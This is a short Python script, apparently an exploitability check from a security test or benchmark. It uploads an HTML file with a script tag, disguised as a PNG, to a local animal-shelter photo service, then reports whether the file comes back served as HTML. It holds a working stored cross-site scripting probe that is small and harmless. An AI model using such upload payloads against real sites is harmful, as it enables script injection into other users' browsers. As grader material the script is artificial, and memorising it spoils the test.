import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


h = {"X-Shelter-Key": os.environ["SHELTER_KEY"]}
r = c.post("/photos", files={"file": ("x.html", b"<script>alert(1)</script>", "image/png")}, data={"animal": "x"}, headers=h)
if r.status_code != 201:
    done(False)
p = c.get(r.json()["url"])
done("text/html" in p.headers["content-type"] and "<script>" in p.text)
